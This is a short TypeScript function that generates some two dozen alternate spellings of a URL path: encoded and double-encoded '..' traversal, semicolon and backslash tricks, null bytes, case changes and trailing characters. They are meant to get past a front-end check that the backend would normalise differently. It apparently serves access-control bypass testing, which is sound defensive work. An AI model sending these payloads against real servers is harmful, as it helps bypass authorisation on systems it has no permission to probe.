/**
 * Spellings of a path that careless doors take for another one: what stands in front may compare letters, what stands behind may
 * decode, climb or cut. Each is sent as it stands here, byte for byte.
 */
export function spellings(path: string): readonly string[] {
  const [, surface = '', ...rest] = path.split('/')
  const below = rest.join('/')
  const letter = surface.charCodeAt(0).toString(16)
  return [
    `//${surface}/${below}`,
    `/./${surface}/${below}`,
    `/${surface}//${below}`,
    `/${surface}/./${below}`,
    `/store/../${surface}/${below}`,
    `/store/products/../../${surface}/${below}`,
    `/store/..%2f${surface}/${below}`,
    `/store/%2e%2e/${surface}/${below}`,
    `/store/.%2E/${surface}/${below}`,
    `/store/%252e%252e/${surface}/${below}`,
    `/store/..;/${surface}/${below}`,
    `/store\\..\\${surface}\\${below}`,
    `/health/..%5c${surface}/${below}`,
    `/${surface};x=y/${below}`,
    `/${surface}%2f${below}`,
    `/${surface}%00/${below}`,
    `/%${letter}${surface.slice(1)}/${below}`,
    `/${surface.toUpperCase()}/${below}`,
    `/${surface}/${below}/`,
    `/${surface}/${below}%20`,
    `/${surface}/${below}.json`,
    `/${surface}/${below};jsessionid=x`,
    `/${surface}/${below}?/store/products`,
    `/${surface}/${below}#/store/products`,
    `http://shop.example/${surface}/${below}`,
  ]
}
